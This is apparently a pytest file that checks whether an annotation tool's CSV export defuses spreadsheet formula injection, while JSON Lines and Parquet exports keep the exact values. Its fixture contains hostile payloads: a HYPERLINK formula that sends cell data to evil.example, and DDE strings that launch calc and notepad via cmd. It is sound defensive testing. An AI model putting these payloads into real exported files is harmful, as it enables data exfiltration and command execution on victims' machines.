"""CSV formula injection (issue 16, point 5): a text cell that starts with =, +, -, @, a tab or a
carriage return is written with a leading ' (OWASP), so a spreadsheet shows it instead of running
it; JSON Lines and Parquet keep the exact values. Failed on the old code, which wrote them as is."""

import csv
import io
import json

import pytest

from annotation.models import Item
from annotation.services.items import items_import

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+SUM(1,2)",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "plain": "nothing to defuse: 1+1=2",
}
EXTERNAL_ID = "=cmd|' /C notepad'!A1"


@pytest.fixture
def hostile(project):
    items_import(
        project=project,
        rows=[{"external_id": EXTERNAL_ID, "data": {**HOSTILE, "number": -3, "nested": {"f": "=1+1"}}}],
    )
    Item.objects.filter(project=project).update(status="approved")
    return project


def get(client, project, **params) -> bytes:
    response = client.get(f"/api/v1/projects/{project.pk}/export/", params)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_csv_cells_that_start_a_formula_are_defused(hostile, client_for, staff):
    raw = get(client_for(staff), hostile, format="csv").decode()
    [row] = list(csv.DictReader(io.StringIO(raw)))
    assert row["external_id"] == "'" + EXTERNAL_ID
    for key, text in HOSTILE.items():
        expected = text if key == "plain" else "'" + text
        assert row[f"data.{key}"] == expected, key
    assert row["data.number"] == "-3", "a number is not text: it stays a number"
    assert json.loads(row["data.nested"]) == {"f": "=1+1"}, "JSON text starts with {, never a formula"
    for cell in [value for line in csv.reader(io.StringIO(raw)) for value in line]:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or cell == "-3", cell


def test_json_lines_and_parquet_keep_the_exact_values(hostile, client_for, staff):
    client = client_for(staff)
    [record] = [json.loads(line) for line in get(client, hostile).decode().splitlines()]
    assert record["external_id"] == EXTERNAL_ID
    assert {k: record["data"][k] for k in HOSTILE} == HOSTILE
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow is needed for Parquet")
    table = pq.read_table(io.BytesIO(get(client, hostile, format="parquet")))
    assert table.column("external_id").to_pylist() == [EXTERNAL_ID]
    data = json.loads(table.column("data")[0].as_py())
    assert {k: data[k] for k in HOSTILE} == HOSTILE
